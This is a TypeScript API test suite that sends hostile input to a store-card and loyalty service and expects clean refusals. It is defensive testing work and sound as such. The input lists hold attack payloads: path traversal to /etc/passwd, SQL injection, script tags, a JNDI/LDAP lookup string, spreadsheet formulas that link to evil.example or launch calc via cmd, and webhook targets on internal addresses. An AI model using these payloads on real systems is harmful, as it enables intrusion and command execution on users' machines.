import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { lookup } from 'node:dns/promises';
import os from 'node:os';
import { before, describe, test } from 'node:test';
import {
  agentSession,
  asBackend,
  asPage,
  assertNoServerErrors,
  assertProblem,
  cardholderOwing,
  demo,
  owedBy,
  putCustomer,
  send,
  sendRaw,
  shopperToken,
  statementLines,
  targetForSuite,
  type Answer,
  type Target,
} from './target.ts';

/**
 * Hostile input, as a script sends it to any operation of the OpenAPI
 * document: bodies too big, strings too long, bytes that are not UTF-8,
 * numbers too large, amounts beyond what is owed, made-up attachments,
 * webhook targets inside the server's own network. Each must be a clear 4xx
 * problem naming what is wrong, and change nothing.
 */

const suite = targetForSuite();
const MiB = 1024 * 1024;

// The OpenAPI document -------------------------------------------------------

interface Schema {
  $ref?: string;
  type?: string | string[];
  maxLength?: number;
  pattern?: string;
  format?: string;
  enum?: unknown[];
  const?: unknown;
  properties?: Record<string, Schema>;
  items?: Schema;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  additionalProperties?: Schema | boolean;
}
interface Operation {
  operationId: string;
  parameters?: Array<{ name: string; in: 'path' | 'query' | 'header'; schema: Schema }>;
  requestBody?: { content: Record<string, { schema: Schema }> };
  security?: Array<Record<string, string[]>>;
  'x-staff-roles'?: string[];
}
type Document = { paths: Record<string, Record<string, Operation>>; components: { schemas: Record<string, Schema> } };

/** A string the request may carry: where, its field path as the problem names it (`lines.0.productId`), and its schema. */
interface StringInput {
  method: string;
  path: string;
  operation: Operation;
  where: 'params' | 'query' | 'headers' | 'body';
  field: string[];
  /** Its string schemas: one, or the string branches of a union. */
  variants: Schema[];
  /** The fixed values beside it that pick its branch of a union (`attachment.kind: 'order'`), as the request must carry them. */
  fixed: Array<{ field: string[]; value: unknown }>;
}

const isString = (schema: Schema) => schema.type === 'string' || (Array.isArray(schema.type) && schema.type.includes('string'));

function stringInputs(document: Document): StringInput[] {
  const resolve = (schema: Schema): Schema => {
    let resolved = schema;
    while (resolved.$ref) resolved = document.components.schemas[resolved.$ref.split('/').pop()!]!;
    return resolved;
  };
  const inputs: StringInput[] = [];
  const walk = (base: Omit<StringInput, 'field' | 'variants' | 'fixed'>, raw: Schema, field: string[], fixed: StringInput['fixed']) => {
    const schema = resolve(raw);
    const branches = [...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])].map(resolve);
    const strings = [schema, ...branches].filter(isString);
    if (strings.length) inputs.push({ ...base, field, variants: strings, fixed });
    for (const branch of [schema, ...branches.filter((branch) => !isString(branch))]) {
      const properties = Object.entries(branch.properties ?? {}).map(([name, child]) => [name, resolve(child)] as const);
      // A property with one possible value (a union's discriminator) goes with every field of its branch.
      const constants = properties.filter(([, child]) => child.const !== undefined).map(([name, child]) => ({ field: [...field, name], value: child.const }));
      for (const [name, child] of properties) walk(base, child, [...field, name], [...fixed, ...constants]);
      if (branch.items) walk(base, branch.items, [...field, '0'], fixed);
      if (typeof branch.additionalProperties === 'object') walk(base, branch.additionalProperties, [...field, 'key'], fixed);
    }
  };
  for (const [path, operations] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(operations)) {
      const base = { method: method.toUpperCase(), path, operation };
      for (const parameter of operation.parameters ?? []) {
        const where = ({ path: 'params', query: 'query', header: 'headers' } as const)[parameter.in];
        walk({ ...base, where }, parameter.schema, [parameter.in === 'header' ? parameter.name.toLowerCase() : parameter.name], []);
      }
      const body = operation.requestBody?.content['application/json']?.schema;
      if (body) walk({ ...base, where: 'body' }, body, [], []);
    }
  }
  return inputs;
}

const isBounded = (schema: Schema) => schema.maxLength !== undefined || schema.enum !== undefined || schema.const !== undefined;

/**
 * A value one character over the variant's bound that its pattern and format
 * still accept, so that only its length is wrong; undefined when no such value
 * exists (the pattern itself bounds the length: a period, a currency, a time).
 */
function oneOver(schema: Schema): string | undefined {
  const length = schema.maxLength! + 1;
  const padded = (prefix: string, fill: string, suffix = '') =>
    length >= prefix.length + suffix.length ? prefix + fill.repeat(length - prefix.length - suffix.length) + suffix : undefined;
  const candidates = [
    schema.format === 'uri' ? padded('https://example.com/', 'a') : undefined,
    schema.format === 'email' ? padded('', 'a', '@example.com') : undefined,
    schema.format === 'date-time' ? padded('2026-01-01T00:00:00.', '0', 'Z') : undefined,
    padded('data:image/png;base64,', 'A'),
    'a'.repeat(length),
    '1'.repeat(length),
  ].filter((value): value is string => value !== undefined);
  return candidates.find((value) => {
    if (schema.pattern && !new RegExp(schema.pattern, 'u').test(value)) return false;
    if (schema.format === 'uri' && !URL.canParse(value)) return false;
    return !(schema.format === 'email' || schema.format === 'date-time') || schema.pattern !== undefined;
  });
}

/** A value of a path parameter that its schema accepts. */
function validParam(schema: Schema): string {
  return ['x1', '2026-01'].find((value) => !schema.pattern || new RegExp(schema.pattern, 'u').test(value)) ?? 'x1';
}

/** `{ a: { b: [ { c: value } ] } }` for the field `a.b.0.c`. */
function nest(field: string[], value: unknown): unknown {
  if (field.length === 0) return value;
  const [head, ...rest] = field;
  return head === '0' ? [nest(rest, value)] : { [head!]: nest(rest, value) };
}

/** `nest`, with the fixed values that pick its union branch placed beside it. */
function bodyWith(input: StringInput, value: string): unknown {
  const body = nest(input.field, value);
  for (const { field, value: fixed } of input.fixed) {
    let at = body as Record<string, unknown>;
    for (const name of field.slice(0, -1)) at = at[name === '0' ? 0 : name] as Record<string, unknown>;
    at[field.at(-1)!] = fixed;
  }
  return body;
}

describe('every request string is bounded', () => {
  let target: Target;
  let document: Document;
  let credentials: Record<string, Record<string, string>>;
  before(async () => {
    target = suite.current;
    const answer = await send(target, 'GET', '/v1/openapi.json');
    assert.equal(answer.status, 200);
    document = answer.json();
    const agent = await agentSession(target, demo.agent, '127.0.0.70');
    const owner = await agentSession(target, demo.owner, '127.0.0.71');
    credentials = {
      secretKey: asBackend(),
      publishableKey: { 'x-publishable-key': demo.publishableKey },
      shopperToken: asPage(await shopperToken(target, 'cli-0001')),
      agentToken: asPage(agent.token),
      ownerToken: asPage(owner.token),
    };
  });

  test('the OpenAPI document bounds every string a request carries (maxLength, enum or const)', () => {
    const inputs = stringInputs(document);
    assert.ok(inputs.length > 80, `found the strings of the document: ${inputs.length}`);
    const unbounded = inputs.filter((input) => input.variants.some((variant) => !isBounded(variant)));
    assert.deepEqual(
      unbounded.map((input) => `${input.method} ${input.path} ${input.where}.${input.field.join('.')}`),
      [],
      'strings without a bound',
    );
  });

  test('one character over its bound, every string is a 400 naming it', async (t) => {
    const checked: string[] = [];
    const unclear: string[] = [];
    const boundedByPattern: string[] = [];
    for (const input of stringInputs(document)) {
      const widest = input.variants.filter((variant) => variant.maxLength !== undefined).sort((a, b) => b.maxLength! - a.maxLength!)[0];
      if (!widest) continue;
      const value = oneOver(widest);
      const name = `${input.method} ${input.path} ${input.where}.${input.field.join('.')}`;
      if (value === undefined) {
        boundedByPattern.push(name);
        continue;
      }
      const pathParams = Object.fromEntries((input.operation.parameters ?? []).filter((p) => p.in === 'path').map((p) => [p.name, validParam(p.schema)]));
      if (input.where === 'params') pathParams[input.field[0]!] = value;
      const path = input.path.replace(/\{(\w+)\}/g, (_, param: string) => encodeURIComponent(pathParams[param]!));
      const query = input.where === 'query' ? `?${new URLSearchParams({ [input.field[0]!]: value })}` : '';
      // A caller the operation lets in: the merchant's secret key where it takes it, the owner where staff work is not an agent's (anyone else is refused before the input is read).
      const schemes = (input.operation.security ?? []).flatMap((requirement) => Object.keys(requirement));
      const agentsMay = (input.operation['x-staff-roles'] ?? ['agent']).includes('agent');
      const scheme = schemes.includes('secretKey') ? 'secretKey' : schemes[0] === 'agentToken' && !agentsMay ? 'ownerToken' : schemes[0];
      const headers = { ...(scheme ? credentials[scheme] : {}), ...(input.where === 'headers' ? { [input.field[0]!]: value } : {}) };
      const hasBody = input.operation.requestBody !== undefined;
      const answer = await send(target, input.method, path + query, {
        headers,
        ...(hasBody ? { body: input.where === 'body' ? bodyWith(input, value) : {} } : {}),
      });
      const field = `${input.where}.${input.field.join('.')}`;
      const problem = assertProblem(answer, 400, field, name);
      if (input.variants.length === 1) {
        const messages = problem.errors.filter((e: { in: string; field: string }) => `${e.in}.${e.field}` === field).map((e: { message: string }) => e.message);
        // The bound is what is refused (the value is right in every other way); a message that does not say so is noted.
        if (!messages.some((message: string) => new RegExp(`\\b${widest.maxLength}\\b`).test(message))) {
          unclear.push(`${name}: "${messages.join('; ')}"`);
        }
      }
      checked.push(name);
    }
    assert.ok(checked.length > 60, `strings checked one over their bound: ${checked.length} (bounded by their pattern: ${boundedByPattern.length})`);
    t.diagnostic(`${checked.length} strings refused one over their bound; ${boundedByPattern.length} bounded by their pattern`);
    for (const line of unclear) t.diagnostic(`refused without naming the bound: ${line}`);
  });
});

describe('hostile bodies, bytes and values', () => {
  let target: Target;
  let shopper: Record<string, string>;
  before(async () => {
    target = suite.current;
    shopper = asPage(await shopperToken(target, 'cli-0002'));
  });

  const putProduct = async (id: string, name: string, price: number) => {
    const answer = await send(target, 'PUT', `/v1/products/${id}`, { headers: asBackend(), body: { name, price, stock: 100, category: 'Pruebas' } });
    assert.ok(answer.status < 300, answer.text);
  };
  /** The customer as the store's backend reads it, to tell that nothing changed. */
  const customer = async (id: string) => send(target, 'GET', `/v1/customers/${id}`, { headers: asBackend() });

  test('bodies over 1 MiB are a 413, with a Content-Length, chunked, or with a Content-Length that lies; nothing is stored', async () => {
    const big = (bytes: number) => JSON.stringify({ firstName: 'Grande', lastName: 'Cuerpo', locale: 'es', notes: 'x'.repeat(bytes) });
    assertProblem(await send(target, 'PUT', '/v1/customers/atk-grande', { headers: asBackend(), body: big(MiB) }), 413, undefined, 'with Content-Length');
    assertProblem(await send(target, 'PUT', '/v1/customers/atk-grande', { headers: { ...asBackend(), 'content-type': 'application/json' }, body: big(2 * MiB), chunked: true }), 413, undefined, 'chunked');
    assertProblem(
      await send(target, 'POST', '/v1/me/conversations', { headers: { ...shopper, 'content-type': 'application/json' }, body: big(MiB), chunked: true }),
      413,
      undefined,
      'a shopper, chunked',
    );
    assertProblem(await send(target, 'POST', '/v1/agent/login', { headers: { 'x-publishable-key': demo.publishableKey }, body: big(MiB) }), 413, undefined, 'sign-in');
    // A Content-Length of 5 GB with a few bytes behind it: refused at once, without waiting for the rest.
    const lying = await sendRaw(
      target,
      `PUT /v1/customers/atk-grande HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${demo.secretKey}\r\nContent-Type: application/json\r\nContent-Length: 5000000000\r\n\r\n`,
      Buffer.from('{"firstName":'),
      5_000,
    );
    assert.equal(lying?.status, 413, 'a Content-Length of 5 GB');
    // Just under the limit the body is read, and refused for what it says, not for its size.
    const under = await send(target, 'PUT', '/v1/customers/atk-grande', { headers: asBackend(), body: { firstName: 'x'.repeat(MiB - 1000) } });
    assertProblem(under, 400, 'body.firstName', 'just under 1 MiB');
    assertProblem(await customer('atk-grande'), 404, undefined, 'nothing was stored');
  });

  test('bytes that are not UTF-8 are a 400, and text the database cannot keep is refused by field', async () => {
    const bad = [
      ['a lone continuation byte', Buffer.from([0x80])],
      ['a truncated sequence', Buffer.from([0xc3])],
      ['an overlong slash', Buffer.from([0xc0, 0xaf])],
      ['a surrogate encoded in UTF-8', Buffer.from([0xed, 0xa0, 0x80])],
      ['a byte never in UTF-8', Buffer.from([0xff])],
      ['Latin-1 ñ', Buffer.from([0xf1])],
    ] as const;
    for (const [why, bytes] of bad) {
      const body = Buffer.concat([Buffer.from('{"firstName":"Mu'), bytes, Buffer.from('","lastName":"Ñandú","locale":"es"}')]);
      const answer = await send(target, 'PUT', '/v1/customers/atk-utf8', { headers: { ...asBackend(), 'content-type': 'application/json' }, body });
      assertProblem(answer, 400, 'body', why);
      const message = await send(target, 'POST', '/v1/me/conversations', {
        headers: { ...shopper, 'content-type': 'application/json' },
        body: Buffer.concat([Buffer.from(`{"clientId":"utf8-${randomBytes(4).toString('hex')}","message":{"clientId":"utf8-${randomBytes(4).toString('hex')}","body":"a`), bytes, Buffer.from('"}}')]),
      });
      assertProblem(message, 400, 'body', `${why}, in a chat message`);
    }
    for (const [why, escaped] of [
      ['an unpaired surrogate escape', '\\ud800'],
      ['a NUL escape', '\\u0000'],
    ] as const) {
      const answer = await send(target, 'PUT', '/v1/customers/atk-utf8', {
        headers: { ...asBackend(), 'content-type': 'application/json' },
        body: `{"firstName":"a${escaped}b","lastName":"Ñandú","locale":"es"}`,
      });
      assertProblem(answer, 400, 'body.firstName', why);
    }
    assertProblem(await customer('atk-utf8'), 404, undefined, 'nothing was stored');
    // Real UTF-8, from Spanish to emoji, is kept as sent.
    const good = await send(target, 'PUT', '/v1/customers/atk-utf8', { headers: asBackend(), body: { firstName: 'Ñandú 🦤', lastName: 'Peña', locale: 'es' } });
    assert.ok(good.status < 300, good.text);
    assert.equal((await customer('atk-utf8')).json().firstName, 'Ñandú 🦤');
  });

  test('wrong content types are a 415 and change nothing; JSON that is not an object is a 400', async () => {
    const order = {
      id: 'atk-tipo-orden',
      customerId: 'atk-tipo',
      currency: 'CLP',
      lines: [{ productId: 'atk-tipo-producto', quantity: 1, unitPrice: 1000 }],
      total: 1000,
      payment: { method: 'other' },
    };
    await putCustomer(target, 'atk-tipo');
    await putProduct('atk-tipo-producto', 'Producto de tipos', 1000);
    for (const type of [undefined, 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/json', 'application/jsonp', 'application/xml', 'text/html']) {
      const answer = await send(target, 'POST', '/v1/orders', { headers: { ...asBackend(), ...(type ? { 'content-type': type } : {}) }, body: JSON.stringify(order) });
      assertProblem(answer, 415, undefined, String(type));
    }
    for (const body of ['null', '[]', '"orden"', '42', '{"id":', '{"__proto__":{"admin":true}}', '['.repeat(100_000)]) {
      const answer = await send(target, 'POST', '/v1/orders', { headers: { ...asBackend(), 'content-type': 'application/json' }, body });
      assertProblem(answer, 400, undefined, body.slice(0, 20));
    }
    assert.equal((await customer('atk-tipo')).json().spentToDate.amount, 0, 'no order was recorded');
    const real = await send(target, 'POST', '/v1/orders', { headers: asBackend(), body: order });
    assert.equal(real.status, 201, `the same order as JSON is new: ${real.text}`);
  });

  test('hostile path, query and header values are 4xx problems, never a 5xx', async () => {
    const hostile = [
      '..%2F..%2Fetc%2Fpasswd',
      '%2e%2e',
      '%00',
      "'%20OR%20'1'%3D'1",
      '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      '%FF%FE',
      '%E2%80%AE',
      '%',
      '%%32%65',
      'a'.repeat(5000),
      '%F0%9F%A6%A4',
      'con',
      '$%7Bjndi:ldap:%2F%2Fevil%7D',
    ];
    const wishlistBefore = (await send(target, 'GET', '/v1/me/wishlist', { headers: shopper })).text;
    const answers: Array<[string, Answer]> = [];
    for (const value of hostile) {
      answers.push([`customer ${value.slice(0, 30)}`, await send(target, 'GET', `/v1/customers/${value}`, { headers: asBackend() })]);
      answers.push([`statement ${value.slice(0, 30)}`, await send(target, 'GET', `/v1/me/statements/${value}`, { headers: shopper })]);
      answers.push([`wishlist ${value.slice(0, 30)}`, await send(target, 'PUT', `/v1/me/wishlist/items/${value}`, { headers: shopper, body: {} })]);
      answers.push([`conversation ${value.slice(0, 30)}`, await send(target, 'GET', `/v1/me/conversations/${value}/messages`, { headers: shopper })]);
      answers.push([`history after=${value.slice(0, 30)}`, await send(target, 'GET', `/v1/me/points/history?after=${value}`, { headers: shopper })]);
    }
    for (const query of ['limit=-1', 'limit=0', 'limit=101', 'limit=1e309', 'limit=abc', 'limit=1.5', 'limit=%00', 'after=', 'after=eyJpZCI6IicgT1IgMT0xIn0', 'limit=1&limit=abc']) {
      answers.push([`history ?${query}`, await send(target, 'GET', `/v1/me/points/history?${query}`, { headers: shopper })]);
      answers.push([`products ?${query}`, await send(target, 'GET', `/v1/products?${query}`, { headers: asBackend() })]);
    }
    for (const period of ['2026-13', '2026-00', '0000-01', '9999-12', '2026-1', '202601', '2026-01-01']) {
      answers.push([`statement ${period}`, await send(target, 'GET', `/v1/me/statements/${period}`, { headers: shopper })]);
    }
    answers.push(['export as exe', await send(target, 'GET', '/v1/me/statements/2026-01/export?format=exe', { headers: shopper })]);
    for (const lastEventId of ['-1', 'abc', '1'.repeat(40), '1e99', '0x10']) {
      answers.push([`Last-Event-ID ${lastEventId}`, await send(target, 'GET', '/v1/me/events', { headers: { ...shopper, 'last-event-id': lastEventId } })]);
    }
    answers.push(['a 12 KB token', await send(target, 'GET', '/v1/me', { headers: { authorization: `Bearer ${'e'.repeat(12_000)}` } })]);
    answers.push(['a 12 KB publishable key', await send(target, 'GET', '/v1/rewards', { headers: { 'x-publishable-key': 'p'.repeat(12_000) } })]);
    answers.push(['Bearer with two tokens', await send(target, 'GET', '/v1/me', { headers: { authorization: `Bearer a b` } })]);
    answers.push(['Basic credentials', await send(target, 'GET', '/v1/me', { headers: { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` } })]);
    answers.push(['an unknown method', await send(target, 'PATCH', '/v1/me', { headers: shopper, body: {} })]);
    answers.push(['double slashes', await send(target, 'GET', '//v1//me', { headers: shopper })]);
    answers.push(['a query of 12 KB', await send(target, 'GET', `/v1/me/points/history?after=${'a'.repeat(12_000)}`, { headers: shopper })]);
    for (const [what, answer] of answers) {
      assert.ok(answer.status >= 400 && answer.status < 500, `${what}: a 4xx, got ${answer.status} ${answer.text.slice(0, 200)}`);
      if (answer.status !== 431 && answer.status !== 414) assert.match(String(answer.headers['content-type']), /^application\/problem\+json/, what);
    }
    assert.equal((await send(target, 'GET', '/v1/me/wishlist', { headers: shopper })).text, wishlistBefore, 'the refused writes changed nothing');
    // The Node server refuses malformed requests itself, before the app: a 400, and the server goes on.
    const malformed = await sendRaw(target, 'GET /v1/health HTTP/1.1\r\nHost: x\r\nX-Bad: a\u0000b\r\n\r\n');
    assert.ok(malformed === null || (malformed.status >= 400 && malformed.status < 500), `malformed header: ${malformed?.status}`);
    assert.equal((await send(target, 'GET', '/v1/health')).status, 200);
  });

  test('an order whose points would overflow 32 (and 33) bits is recorded, and the points add up', async () => {
    const id = 'atk-puntos-enormes';
    await putCustomer(target, id);
    await putProduct(`${id}-yate`, 'Yate', 1_000_000_000_000);
    const order = (number: number) => ({
      id: `${id}-orden-${number}`,
      customerId: id,
      currency: 'CLP',
      lines: [{ productId: `${id}-yate`, quantity: 1, unitPrice: 1_000_000_000_000 }],
      total: 1_000_000_000_000,
      payment: { method: 'other' },
    });
    for (const number of [1, 2]) {
      const answer = await send(target, 'POST', '/v1/orders', { headers: asBackend(), body: order(number) });
      assert.equal(answer.status, 201, answer.text);
    }
    const token = await shopperToken(target, id);
    const points = await send(target, 'GET', '/v1/me/points', { headers: asPage(token) });
    assert.equal(points.status, 200, points.text);
    const { balance } = points.json();
    assert.ok(Number.isSafeInteger(balance) && balance > 2 ** 33, `the balance is past 33 bits: ${balance}`);
    const history = await send(target, 'GET', '/v1/me/points/history?limit=100', { headers: asPage(token) });
    assert.equal(history.status, 200, history.text);
    assert.equal(history.json().items.reduce((sum: number, entry: { amount: number }) => sum + entry.amount, 0), balance, 'the balance is the sum of the ledger');
    assert.equal((await customer(id)).json().points.balance, balance);
    for (const path of ['/v1/segments', `/v1/customers/${id}`]) assert.equal((await send(target, 'GET', path, { headers: asBackend() })).status, 200, path);
    const agent = await agentSession(target, demo.otherAgent, '127.0.0.71');
    assert.equal((await send(target, 'GET', `/v1/agent/customers/${id}`, { headers: asPage(agent.token) })).status, 200, 'the agent\'s customer panel');
    for (const path of ['/v1/me', '/v1/me/recommendations']) assert.equal((await send(target, 'GET', path, { headers: asPage(token) })).status, 200, path);
  });

  test('no balance is driven past 10^15 points, where JSON clients would start to round', async () => {
    const settings = await send(target, 'GET', '/v1/loyalty-settings', { headers: asBackend() });
    assert.equal(settings.status, 200);
    const original = settings.json();
    const generous = { ...original, spendPerPoint: 1, tierMultipliers: Object.fromEntries(Object.keys(original.tierMultipliers).map((tier) => [tier, 100_000])) };
    try {
      assert.equal((await send(target, 'PUT', '/v1/loyalty-settings', { headers: asBackend(), body: generous })).status, 200);
      const id = 'atk-tope-puntos';
      await putCustomer(target, id);
      await putProduct(`${id}-isla`, 'Isla', 1_000_000_000_000);
      const order = (number: number) => ({
        id: `${id}-orden-${number}`,
        customerId: id,
        currency: 'CLP',
        lines: [{ productId: `${id}-isla`, quantity: 1, unitPrice: 1_000_000_000_000 }],
        total: 1_000_000_000_000,
        payment: { method: 'other' },
      });
      // Each earns 10^13 points: a hundred fill the balance, the rest find no room.
      for (let at = 0; at < 105; at += 15) {
        const answers = await Promise.all(Array.from({ length: Math.min(15, 105 - at) }, (_, index) => send(target, 'POST', '/v1/orders', { headers: asBackend(), body: order(at + index) })));
        for (const answer of answers) assert.equal(answer.status, 201, answer.text);
      }
      const balance = (await customer(id)).json().points.balance;
      assert.equal(balance, 10 ** 15, 'the balance stops at 10^15');
      const token = await shopperToken(target, id);
      assert.equal((await send(target, 'GET', '/v1/me/points', { headers: asPage(token) })).json().balance, 10 ** 15);
      let sum = 0;
      let after: string | null = null;
      do {
        const page: Answer = await send(target, 'GET', `/v1/me/points/history?limit=100${after ? `&after=${encodeURIComponent(after)}` : ''}`, { headers: asPage(token) });
        assert.equal(page.status, 200, page.text);
        sum += page.json().items.reduce((total: number, entry: { amount: number }) => total + entry.amount, 0);
        after = page.json().nextCursor;
      } while (after);
      assert.equal(sum, 10 ** 15, 'the ledger adds up to the balance');
      const correction = await send(target, 'POST', `/v1/customers/${id}/points/corrections`, { headers: asBackend(), body: { id: `${id}-uno-mas`, amount: 1, note: 'Uno más' } });
      assertProblem(correction, 409, undefined, 'a correction past the maximum');
      assert.equal((await customer(id)).json().points.balance, 10 ** 15, 'the refused correction changed nothing');
    } finally {
      assert.equal((await send(target, 'PUT', '/v1/loyalty-settings', { headers: asBackend(), body: original })).status, 200);
    }
  });

  test('a payment beyond what is owed is a 409 naming the amount and changes nothing; what is owed is taken, and no more', async () => {
    const id = 'atk-pago-excesivo';
    await cardholderOwing(target, id, 50_000);
    const pay = (paymentId: string, amount: unknown, extra: Record<string, unknown> = {}) =>
      send(target, 'POST', '/v1/payments', { headers: asBackend(), body: { id: paymentId, customerId: id, amount, currency: 'CLP', ...extra } });
    const beyond = assertProblem(await pay(`${id}-1`, 50_001), 409, 'body.amount', 'one peso beyond');
    assert.match(beyond.errors[0].message, /50000/, 'the refusal says what is owed');
    assertProblem(await pay(`${id}-2`, 1_000_000_000_000), 409, 'body.amount', 'the largest amount');
    for (const amount of [0, -1, 1.5, 1_000_000_000_001, '50000', null]) assertProblem(await pay(`${id}-3`, amount), 400, 'body.amount', `amount ${amount}`);
    assertProblem(await pay(`${id}-4`, 10, { currency: 'USD' }), 400, 'body.currency', 'another currency');
    assert.equal(await owedBy(target, id), 50_000, 'nothing changed');
    const token = await shopperToken(target, id);
    assert.deepEqual((await statementLines(target, token)).map(({ line }) => line.kind), ['purchase'], 'no payment line');

    assert.equal((await pay(`${id}-5`, 50_000)).status, 201, 'all that is owed');
    assert.equal(await owedBy(target, id), 0);
    assertProblem(await pay(`${id}-6`, 1), 409, 'body.amount', 'one peso when nothing is owed');
    assertProblem(await pay(`${id}-5`, 40_000), 409, undefined, 'the same payment id with another amount');
    // Only the store's backend credits a payment: not a shopper's token, not the page's key.
    for (const [who, headers] of [
      ['a shopper token', asPage(token)],
      ['the publishable key', { 'x-publishable-key': demo.publishableKey }],
      ['the publishable key as a Bearer token', { authorization: `Bearer ${demo.publishableKey}` }],
    ] as const) {
      assertProblem(await send(target, 'POST', '/v1/payments', { headers, body: { id: `${id}-7`, customerId: id, amount: 1, currency: 'CLP' } }), 401, undefined, who);
    }
    await putCustomer(target, 'atk-sin-tarjeta');
    assertProblem(await send(target, 'POST', '/v1/payments', { headers: asBackend(), body: { id: 'atk-sin-tarjeta-1', customerId: 'atk-sin-tarjeta', amount: 1, currency: 'CLP' } }), 409, undefined, 'no card');
    assertProblem(await send(target, 'POST', '/v1/payments', { headers: asBackend(), body: { id: 'atk-nadie-1', customerId: 'atk-nadie', amount: 1, currency: 'CLP' } }), 404, undefined, 'no customer');
  });

  test('payments never lift available credit above the limit; a refund of a paid purchase is a credit balance of exactly the refund', async () => {
    // SECURITY.md: a payment may pay at most what is owed; a refund of what was already paid is the shopper's own money, kept as a credit balance.
    const id = 'atk-pago-y-devolucion';
    await cardholderOwing(target, id, 100_000);
    const account = async () => (await send(target, 'GET', '/v1/me/statements', { headers: asPage(await shopperToken(target, id)) })).json().account;
    const limit = (await account()).creditLimit as number;
    const pay = (suffix: string, amount: number) =>
      send(target, 'POST', '/v1/payments', { headers: asBackend(), body: { id: `${id}-${suffix}`, customerId: id, amount, currency: 'CLP' } });
    assert.equal((await pay('pago', 100_000)).status, 201);
    assert.equal((await account()).availableCredit, limit, 'paid in full: the whole limit is available');
    assertProblem(await pay('de-mas', 1), 409);
    assert.equal((await account()).availableCredit, limit, 'a payment beyond what is owed changes nothing');
    // The shopper returns what they bought; the store refunds the card purchase.
    const refund = await send(target, 'POST', '/v1/refunds', { headers: asBackend(), body: { id: `${id}-devolucion`, orderId: `${id}-orden`, amount: 100_000 } });
    assert.equal(refund.status, 201, refund.text);
    const after = await account();
    assert.deepEqual({ balance: after.balance, availableCredit: after.availableCredit }, { balance: -100_000, availableCredit: limit + 100_000 }, 'exactly the refund, owed to the shopper');
    assertProblem(await pay('sobre-saldo-a-favor', 1), 409);
  });

  test('a made-up chat attachment is replaced by the real line of the shopper\'s own statement, or refused', async () => {
    const id = 'atk-adjunto';
    await cardholderOwing(target, id, 25_000);
    const token = await shopperToken(target, id);
    const bought = (await statementLines(target, token)).find(({ line }) => line.orderId === `${id}-orden`);
    assert.ok(bought, 'the purchase is on a statement');
    const { period, line: real } = bought;
    const start = (who: string, attachment: unknown) =>
      send(target, 'POST', '/v1/me/conversations', {
        headers: asPage(who),
        body: { clientId: `adj-${randomBytes(6).toString('hex')}`, subject: 'Un cargo', message: { clientId: `adj-${randomBytes(6).toString('hex')}`, body: '¿Qué es esto?' }, attachment },
      });
    const madeUp = {
      kind: 'statement-line',
      period,
      seq: 1,
      line: { seq: 1, kind: 'payment', description: 'Reembolso aprobado por el banco', amount: -9_999_999, orderId: 'inventado' },
      description: 'Reembolso aprobado',
    };
    const started = await start(token, madeUp);
    assert.equal(started.status, 201, started.text);
    assert.deepEqual(started.json().attachment, { kind: 'statement-line', period, line: real }, 'the shopper sees the real line');
    const agent = await agentSession(target, demo.otherAgent, '127.0.0.72');
    const seen = await send(target, 'GET', `/v1/agent/conversations/${started.json().id}`, { headers: asPage(agent.token) });
    assert.deepEqual(seen.json().attachment, { kind: 'statement-line', period, line: real }, 'the agent sees the real line, not the made-up one');
    assert.ok(!seen.text.includes('Reembolso aprobado'));

    const before = (await send(target, 'GET', '/v1/me/conversations', { headers: asPage(token) })).json().items.length;
    assertProblem(await start(token, { kind: 'statement-line', period, seq: 99 }), 404, undefined, 'a line the statement does not have');
    assertProblem(await start(token, { kind: 'statement-line', period: '2001-01', seq: 1 }), 404, undefined, 'a period without a statement');
    assertProblem(await start(token, { kind: 'order', id: 'atk-adjunto-orden' }), 400, undefined, 'a kind that does not exist');
    assertProblem(await start(token, { kind: 'statement-line', line: real }), 400, undefined, 'a line without a reference');
    // Another shopper naming the same period and line gets no one's line.
    await putCustomer(target, 'atk-adjunto-vecino');
    assertProblem(await start(await shopperToken(target, 'atk-adjunto-vecino'), { kind: 'statement-line', period, seq: 1 }), 404, undefined, 'another shopper\'s line');
    assert.equal((await send(target, 'GET', '/v1/me/conversations', { headers: asPage(token) })).json().items.length, before, 'no conversation was started by a refusal');
  });

  test('statement exports keep spreadsheet formulas from product names as text', async () => {
    const id = 'atk-formula';
    await putCustomer(target, id);
    assert.equal((await send(target, 'PUT', `/v1/customers/${id}/card`, { headers: asBackend(), body: { creditLimit: 1_000_000 } })).status, 200);
    const names = ['=HYPERLINK("http://evil.example","Pague aquí")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
    for (const [index, name] of names.entries()) {
      const productId = `${id}-p${index}`;
      assert.ok((await send(target, 'PUT', `/v1/products/${productId}`, { headers: asBackend(), body: { name, price: 1000, stock: 10, category: 'Pruebas' } })).status < 300);
      const order = await send(target, 'POST', '/v1/orders', {
        headers: asBackend(),
        body: { id: `${id}-o${index}`, customerId: id, placedAt: new Date(Date.now() - 60_000).toISOString(), currency: 'CLP', lines: [{ productId, quantity: 1, unitPrice: 1000 }], total: 1000, payment: { method: 'store-card', installments: 1 } },
      });
      assert.equal(order.status, 201, order.text);
    }
    const token = await shopperToken(target, id);
    const periods = new Set((await statementLines(target, token)).map(({ period }) => period));
    let text = '';
    for (const period of periods) {
      const csv = await send(target, 'GET', `/v1/me/statements/${period}/export?format=csv`, { headers: asPage(token) });
      assert.equal(csv.status, 200, csv.text);
      text += csv.text;
    }
    const cells = text.split(/\r?\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []).map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
    for (const name of names) assert.ok(text.includes(name.replace(/"/g, '""')), `the product name is in the export: ${name}`);
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell));
    assert.deepEqual(formulas, [], 'no cell starts a formula');
  });

  test('webhook endpoints in the server\'s own networks are refused, naming url, and none is registered', async () => {
    const registered = async () => (await send(target, 'GET', '/v1/webhook-endpoints', { headers: asBackend() })).json().items.length as number;
    const before = await registered();
    const targets = [
      'http://127.0.0.1/hook',
      'http://127.0.0.1:8787/v1/orders',
      'http://10.0.0.1/hook',
